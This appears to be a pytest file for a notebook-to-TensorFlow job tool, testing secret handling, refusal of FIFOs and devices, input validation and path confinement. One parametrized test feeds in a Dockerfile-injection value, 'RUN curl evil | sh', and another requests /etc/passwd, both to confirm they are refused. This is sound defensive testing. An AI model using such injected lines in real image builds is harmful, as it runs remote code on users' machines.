"""Issue 13, first part: the kernel's environment stays off the disk, files that are not files
are never read, user strings are validated with full matches, --no-wait does not wait, and a
local job this machine cannot hold is refused."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from jobutil import plan_for, run_job, write_notebook

from tfc_jupyter.backends.local import check_capacity
from tfc_jupyter.capture import read_notebook
from tfc_jupyter.catalog import lookup
from tfc_jupyter.errors import BackendError, CaptureError, ConversionError, SpecError
from tfc_jupyter.records import JobState
from tfc_jupyter.requirements import Requirements
from tfc_jupyter.spec import ImageSettings, JobSpec

CANARY = "AKIAFAKE/canary-secret-value-0123456789"


@pytest.mark.slow
def test_the_kernels_environment_stays_off_the_disk(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """launch.json holds the job's variables only; the replica still sees the kernel's."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", CANARY)
    digest = hashlib.sha256(CANARY.encode()).hexdigest()  # the notebook holds no canary
    nb = write_notebook(
        tmp_path / "nb.ipynb",
        "import hashlib, os\nvalue = os.environ.get('AWS_SECRET_ACCESS_KEY', '').encode()\n"
        f"print('sees it:', hashlib.sha256(value).hexdigest() == {digest!r})",
    )
    _, record = run_job(nb, tmp_path / "home")
    assert record.state is JobState.SUCCEEDED, record.error
    job_dir = Path(record.job_dir)
    assert "sees it: True" in (job_dir / "logs" / "chief.log").read_text()
    for path in job_dir.rglob("*"):
        if path.is_file():
            assert CANARY.encode() not in path.read_bytes(), path
    launch = json.loads((job_dir / "launch.json").read_text())
    assert "AWS_SECRET_ACCESS_KEY" not in launch["env"] and "PATH" not in launch["env"]


@pytest.fixture
def fifo(tmp_path: Path) -> Path:
    path = tmp_path / "pipe"
    os.mkfifo(path)
    return path


def _within(seconds: float, fn):  # type: ignore[no-untyped-def]
    start = time.monotonic()
    try:
        return fn()
    finally:
        assert time.monotonic() - start < seconds, "it waited on a FIFO"


def test_a_fifo_or_device_is_never_read(tmp_path: Path, fifo: Path) -> None:
    with pytest.raises(Exception, match="is a FIFO, not a file"):
        _within(5, lambda: Requirements().add_file(fifo))
    with pytest.raises(Exception, match="is a character device"):
        _within(5, lambda: Requirements().add_file(Path("/dev/zero")))
    with pytest.raises(CaptureError, match="is a FIFO"):
        _within(5, lambda: read_notebook(fifo))
    big = tmp_path / "big.txt"
    big.write_bytes(b"x" * 1_000_001)
    with pytest.raises(Exception, match="is over 1 MB"):
        Requirements().add_file(big)


def test_pip_r_fifo_in_a_notebook(tmp_path: Path, fifo: Path) -> None:
    nb = write_notebook(tmp_path / "nb.ipynb", f"%pip install -r {fifo.name}")
    with pytest.raises(ConversionError, match="is a FIFO"):
        _within(5, lambda: plan_for(nb))


def test_include_skips_fifos_and_refuses_devices(tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    (data / "rows.csv").write_text("a\n1\n")
    os.mkfifo(data / "pipe")
    (tmp_path / "zero").symlink_to("/dev/zero")
    nb = write_notebook(tmp_path / "nb.ipynb", "%%tfc_run --backend docker --dry-run\nx = 1")
    plan = _within(10, lambda: plan_for(nb, "--include data"))
    assert plan.context is not None
    assert "app/data/rows.csv" in {e.arcname for e in plan.context.entries}
    assert ("data/pipe", "a FIFO, not a file") in plan.context.left_out
    with pytest.raises(SpecError, match="--include zero: it is a character device"):
        plan_for(nb, "--include zero")


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("project", "my-project\n"),
        ("region", "us-central1\n"),
        ("name", "job\n"),
        ("service_account", "trainer@my-project.iam.gserviceaccount.com\n"),
    ],
)
def test_a_trailing_newline_is_refused(field: str, value: str) -> None:
    with pytest.raises(SpecError):
        JobSpec(**{field: value})  # type: ignore[arg-type]


@pytest.mark.parametrize("flag", ["parent_image", "image", "cache_from"])
def test_image_references_cannot_carry_dockerfile_lines(flag: str) -> None:
    with pytest.raises(SpecError, match="is not an image reference"):
        JobSpec(image=ImageSettings(**{flag: "python:3.11\nRUN curl evil | sh"}))


def test_run_no_wait_returns_at_once(tmp_path: Path) -> None:
    nb = write_notebook(tmp_path / "nb.ipynb", "import time\ntime.sleep(20)")
    env = {**os.environ, "TFC_JUPYTER_HOME": str(tmp_path / "home")}
    start = time.monotonic()
    done = subprocess.run(
        [sys.executable, "-m", "tfc_jupyter.cli", "run", str(nb), "--no-wait"],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    assert time.monotonic() - start < 15
    job_id = done.stdout.strip()
    cancel = subprocess.run(
        [sys.executable, "-m", "tfc_jupyter.cli", "cancel", job_id],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,
    )
    assert cancel.returncode == 0, cancel.stderr


def test_a_local_job_this_machine_cannot_hold_is_refused() -> None:
    spec = JobSpec(chief=lookup("CPU"), worker_count=256)
    with pytest.raises(BackendError) as info:
        check_capacity(spec, cores=2, free_gb=20.0)
    text = str(info.value)
    assert "257 TensorFlow processes" in text and "2 cores and 20.0 GB available" in text
    assert "--backend vertex" in text
    check_capacity(JobSpec(chief=lookup("CPU"), worker_count=2), cores=2, free_gb=20.0)


def test_the_rest_api_stays_inside_the_root(tmp_path: Path) -> None:
    from tfc_jupyter.server.service import JobService

    root = tmp_path / "root"
    root.mkdir()
    write_notebook(root / "nb.ipynb", "x = 1")
    service = JobService(root)
    for path in (".", "/", "..", "../x.ipynb", "sub/.."):
        with pytest.raises(SpecError, match="outside the server's root folder"):
            service.create({"path": path, "options": {"dry_run": True}})
    for key in ("requirements", "include"):
        with pytest.raises(SpecError, match="outside the server's root folder") as info:
            service.create({"path": "nb.ipynb", "options": {"dry_run": True, key: ["/etc/passwd"]}})
        assert "root:" not in str(info.value)
    (root / "reqs.txt").write_text("good-package\nthis is not a requirement line\n")
    with pytest.raises(Exception, match=r"line 2 of reqs\.txt is not a valid requirement") as err:
        service.create(
            {"path": "nb.ipynb", "options": {"dry_run": True, "requirements": ["reqs.txt"]}}
        )
    assert "this is not" not in str(err.value)


_MODEL = {"metadata": {}, "nbformat": 4, "nbformat_minor": 5}


@pytest.mark.parametrize(
    "body",
    [
        {"path": "a\0b.ipynb"},
        {"path": "a\ud800.ipynb"},
        {"path": "a" * 5000 + ".ipynb"},
        {"path": "n.ipynb", "notebook": {**_MODEL, "cells": [{"source": "x", "metadata": "s"}]}},
        {"path": "n.ipynb", "notebook": {**_MODEL, "cells": [{"metadata": {"tags": 5}}]}},
        {"path": "n.ipynb", "notebook": {**_MODEL, "cells": [{"source": [1, 2]}]}},
    ],
    ids=["nul", "surrogate", "long", "metadata-str", "tags-int", "source-ints"],
)
def test_malformed_requests_are_400(tmp_path: Path, body: dict[str, object]) -> None:
    from tfc_jupyter.server.service import JobService

    with pytest.raises(SpecError) as info:
        JobService(tmp_path).create({**body, "options": {"dry_run": True}})
    assert info.value.http_status == 400 and "Fix:" in str(info.value)


def test_plan_json_lists_the_build_context(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from tfc_jupyter import cli

    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "rows.csv").write_text("a\n1\n")
    (tmp_path / "data" / ".env").write_text("TOKEN=x\n")
    nb = write_notebook(tmp_path / "nb.ipynb", "x = 1")
    assert cli.main(["plan", str(nb), "--json", "--backend", "docker", "--include", "data"]) == 0
    context = json.loads(capsys.readouterr().out)["context"]
    files = {f["path"]: f["bytes"] for f in context["files"]}
    assert files["app/data/rows.csv"] == 4 and "Dockerfile" in files
    assert {"path": "data/.env", "why": "secret: .env file", "reason": "secret: .env file"} in (
        context["left_out"]
    )
    assert cli.main(["plan", str(nb), "--backend", "docker", "--include", "data"]) == 0
    text = capsys.readouterr().out
    assert (
        "  app/data/rows.csv  4 B" in text and "  left out: data/.env (secret: .env file)" in text
    )


def test_a_home_others_can_write_or_own_is_refused(tmp_path: Path) -> None:
    from tfc_jupyter.records import JobStore, JobStoreError

    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o777)
    with pytest.raises(JobStoreError, match=r"writable by other users.*chmod 700"):
        JobStore(shared / "jobs.sqlite")
    if os.getuid() == 0:  # as root (CI), hand a folder to another uid
        theirs = tmp_path / "theirs"
        theirs.mkdir(mode=0o700)
        os.chown(theirs, 12345, 12345)
        with pytest.raises(JobStoreError, match="belongs to uid 12345"):
            JobStore(theirs / "jobs.sqlite")
    mine = tmp_path / "mine"
    mine.mkdir(mode=0o700)
    JobStore(mine / "jobs.sqlite")


def test_only_the_process_a_record_started_is_signalled() -> None:
    from tfc_jupyter.backends.watched import same_process, started_at

    me = os.getpid()
    assert same_process(me, started_at(me))
    assert not same_process(me, (started_at(me) or 0) - 3600)  # a recycled pid
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait(timeout=30)
    assert not same_process(proc.pid, None)


@pytest.mark.slow
def test_listing_notices_a_dead_supervisor(tmp_path: Path) -> None:
    import signal as signals

    from tfc_jupyter import jobs as jobs_mod
    from tfc_jupyter.jobs import launch, store_for

    nb = write_notebook(tmp_path / "nb.ipynb", "import time\ntime.sleep(60)")
    store = store_for(tmp_path / "home")
    job = launch(plan_for(nb), store=store)
    deadline = time.monotonic() + 60
    record = store.get(job.id)
    while record.state is not JobState.RUNNING and time.monotonic() < deadline:
        time.sleep(0.2)
        record = store.get(job.id)
    os.kill(int(record.handle["supervisor_pid"]), signals.SIGKILL)
    time.sleep(2.5)
    (listed,) = [r for r in jobs_mod.refreshed(store.list(limit=5), store) if r.id == job.id]
    assert listed.state is JobState.FAILED and "supervisor" in (listed.error or "")
    for pid in (listed.handle.get("replicas") or {}).values():
        with pytest.raises(ProcessLookupError):
            os.kill(int(pid), 0)


def test_an_outcome_kept_in_the_job_folder_is_not_lost(tmp_path: Path) -> None:
    """The supervisor ended the job while the store was locked: the next look completes the
    record from outcome.json, instead of calling a succeeded job failed."""
    from tfc_jupyter.backends.local import LocalBackend
    from tfc_jupyter.backends.watch_loop import write_outcome
    from tfc_jupyter.jobs import store_for
    from tfc_jupyter.records import JobRecord

    store = store_for(tmp_path / "home")
    job_dir = tmp_path / "job"
    job_dir.mkdir()
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait(timeout=30)
    record = store.create(
        JobRecord(id="j-1", name="j", backend="local", job_dir=str(job_dir), log_dir=str(job_dir))
    )
    store.transition("j-1", JobState.RUNNING, handle={"supervisor_pid": dead.pid, "replicas": {}})
    write_outcome(job_dir, JobState.SUCCEEDED, None, None, {"chief": 0})
    time.sleep(2.2)
    record = LocalBackend(store).refresh(store.get("j-1"))
    assert record.state is JobState.SUCCEEDED and record.handle["exit_codes"] == {"chief": 0}
